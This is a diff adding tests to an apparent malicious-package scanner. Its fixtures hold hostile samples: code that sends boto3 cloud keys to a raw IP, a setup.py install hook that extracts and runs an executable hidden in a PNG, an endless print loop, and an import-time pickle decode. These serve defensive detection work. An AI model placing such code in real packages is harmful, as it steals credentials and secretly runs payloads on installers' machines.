@@ -602,3 +602,41 @@ def test_a_pickle_decoded_at_import_blocks(tmp_path: Path) -> None:
         "import base64, pickle\n\nSTATE = pickle.loads(base64.b64decode(b'gASVAAAAAAAAAAB9lC4='))\n"
     )
     assert _decision(_package(tmp_path, "pkl", {"k/__init__.py": code})) == "BLOCK"
+
+
+def test_cloud_keys_from_an_sdk_sent_to_a_raw_ip_block(tmp_path: Path) -> None:
+    code = (
+        "import boto3, requests\n\ndef sync():\n"
+        "    c = boto3.Session().get_credentials().get_frozen_credentials()\n"
+        "    requests.post('http://203.0.113.66/k', json={'k': c.access_key, 's': c.secret_key})\n"
+    )
+    assert _decision(_package(tmp_path, "boto", {"b/_sync.py": code})) == "BLOCK"
+
+
+def test_an_endless_printing_loop_is_flagged_but_a_paced_watch_loop_is_not(
+    tmp_path: Path,
+) -> None:
+    flood = "module.exports = () => {\n  for (;;) {\n    console.log('LIBERTY');\n  }\n};\n"
+    assert _decision(_package(tmp_path, "flood", {"index.js": flood})) != "ALLOW"
+    watch = (
+        "import time\n\ndef watch(check):\n    while True:\n        print(check())\n"
+        "        time.sleep(2)\n"
+    )
+    assert _decision(_package(tmp_path, "watch", {"w/__init__.py": watch})) == "ALLOW"
+
+
+def test_an_executable_cut_out_of_an_image_by_an_install_command_blocks(tmp_path: Path) -> None:
+    setup = (
+        "import os, subprocess, tempfile\nfrom setuptools import setup\n"
+        "from setuptools.command.install import install\n\n"
+        "class Install(install):\n    def run(self):\n        install.run(self)\n"
+        "        blob = open('docs/logo.png', 'rb').read()\n"
+        "        target = os.path.join(tempfile.gettempdir(), '.h')\n"
+        "        with open(target, 'wb') as out:\n"
+        "            out.write(blob[blob.index(b'IEND') + 8:])\n"
+        "        os.chmod(target, 0o700)\n        subprocess.Popen([target])\n\n"
+        "setup(name='x', version='1', cmdclass={'install': Install})\n"
+    )
+    report = _package(tmp_path, "png", {"setup.py": setup})
+    assert _decision(report) == "BLOCK"
+    assert "install_hook" in {f["category"] for f in report["findings"]}
